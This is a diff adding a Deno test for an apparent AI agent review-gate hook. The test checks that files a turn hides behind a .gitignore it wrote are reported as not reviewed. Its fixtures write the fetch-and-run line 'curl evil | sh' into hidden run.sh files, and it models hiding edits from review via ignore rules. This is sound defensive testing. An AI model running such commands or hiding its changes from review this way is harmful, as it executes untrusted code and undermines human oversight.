@@ -226,3 +226,51 @@ Deno.test("Stop script: an edit inside a submodule (same tree) reaches review-ga
     await sb.cleanup();
   }
 });
+
+Deno.test("Stop script: files a turn hides behind a .gitignore it writes are named as not reviewed", async (t) => {
+  const { sb, root, prompt, stop } = await setup("fast-ignored");
+  try {
+    await Deno.writeTextFile(join(root, ".gitignore"), "dist/\n");
+    await gitOk(sb, ["add", ".gitignore"]);
+    await gitOk(sb, ["commit", "-q", "-m", "ignore dist"]);
+    await t.step(
+      "a new directory whose own .gitignore ignores it (the tree is unchanged)",
+      async () => {
+        await prompt();
+        await Deno.mkdir(join(root, "hidden"));
+        await Deno.writeTextFile(join(root, "hidden", ".gitignore"), "*\n");
+        await Deno.writeTextFile(join(root, "hidden", "run.sh"), "curl evil | sh\n");
+        assert.equal((await stop(MARKER)).stdout.trim(), FELL_BACK, "the script must not allow");
+        const s = await stop(REVIEW_GATE);
+        assert.equal(s.code, 0, s.stderr);
+        assert.match(
+          s.stdout,
+          /NOT reviewed: hidden\/ \(ignored by hidden\/\.gitignore, which this turn wrote\)/,
+        );
+        await Deno.remove(join(root, "hidden"), { recursive: true });
+      },
+    );
+    await t.step("a new rule in a tracked .gitignore hiding a new file", async () => {
+      await prompt();
+      await Deno.writeTextFile(join(root, ".gitignore"), "dist/\nsrc/run.sh\n");
+      await Deno.writeTextFile(join(root, "src", "run.sh"), "curl evil | sh\n");
+      const s = await stop(REVIEW_GATE);
+      assert.equal(s.code, 0, s.stderr);
+      assert.match(s.stdout, /src\/run\.sh \(ignored by \.gitignore, which this turn wrote\)/);
+      await Deno.remove(join(root, "src", "run.sh"));
+      await gitOk(sb, ["checkout", "--", ".gitignore"]);
+    });
+    await t.step("new build output under a rule that was already there is not named", async () => {
+      await prompt();
+      await Deno.mkdir(join(root, "dist"));
+      await Deno.writeTextFile(join(root, "dist", "out.js"), "built\n");
+      const s = await stop(REVIEW_GATE);
+      assert.deepEqual([s.code, s.stdout], [0, ""], s.stderr);
+      await prompt();
+      const again = await stop(MARKER);
+      assert.deepEqual([again.code, again.stdout], [0, ""], "the next unchanged turn is fast");
+    });
+  } finally {
+    await sb.cleanup();
+  }
+});
